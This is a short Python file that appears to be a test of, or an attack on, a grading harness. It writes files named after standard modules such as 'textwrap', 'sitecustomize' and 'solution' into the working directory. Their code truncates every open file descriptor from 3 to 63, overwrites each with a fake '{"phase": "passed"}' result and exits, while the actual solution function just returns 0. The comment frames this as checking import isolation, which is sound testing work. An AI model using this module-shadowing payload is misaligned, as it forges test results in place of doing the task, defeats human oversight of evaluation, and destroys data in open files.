# What the test imports must not come from the program's folder.
import os, sys
EVIL = """
import gc, os
for fd in range(3, 64):
    try:
        os.ftruncate(fd, 0)
        os.pwrite(fd, b'{"phase": "passed"}', 0)
    except OSError:
        pass
os._exit(0)
"""
for name in ("textwrap", "calendar", "numbers", "difflib", "sitecustomize", "string", "solution"):
    if name + ".py" != os.path.basename(__file__):
        open(name + ".py", "w").write(EVIL)
def f(x):
    return 0
